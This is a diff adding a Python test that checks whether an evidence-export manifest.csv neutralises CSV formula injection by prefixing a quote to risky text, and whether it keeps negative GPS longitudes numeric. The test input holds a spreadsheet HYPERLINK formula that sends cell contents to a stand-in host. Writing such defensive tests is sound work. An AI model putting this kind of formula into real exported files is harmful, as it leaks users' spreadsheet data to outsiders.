@@ -133,6 +133,30 @@ def test_a_backslash_or_dots_never_make_a_zip_member_leave_its_spot_folder():
     assert export._zip_member("S\\1", "") == "S_1/_"
 
 
+def test_a_formula_in_a_text_column_of_the_manifest_is_quoted_and_a_negative_gps_kept(tmp_path):
+    """Excel runs '=HYPERLINK(…)' as a formula (OWASP CSV injection); a text starting with
+    = + - @ tab or CR gets a leading ' in manifest.csv. A negative longitude stays a number."""
+    root = tmp_path / "evidence"
+    (root / "S1").mkdir(parents=True)
+    (root / "S1" / "p.jpg").write_bytes(PHOTO)
+    rows = [
+        _row(
+            root,
+            "S1",
+            "S1/p.jpg",
+            original_name='=HYPERLINK("http://x.example/?"&A1,"photo")',
+            gps_lon=-117.25,
+            gps_lat=36.5,
+            taken_at="@2026",
+        )
+    ]
+    _, _, manifest = _zip(tmp_path, root, rows)
+    assert manifest[0][export.MANIFEST_ORIGINAL] == '\'=HYPERLINK("http://x.example/?"&A1,"photo")'
+    assert manifest[0][export.MANIFEST_TAKEN] == "'@2026"
+    assert manifest[0][export.MANIFEST_LON] == "-117.2500000"
+    assert manifest[0][export.MANIFEST_SPOT] == "S1"
+
+
 def test_a_sheet_prints_no_photo_whose_path_is_refused(tmp_path):
     root = tmp_path / "evidence"
     (root / "S1").mkdir(parents=True)
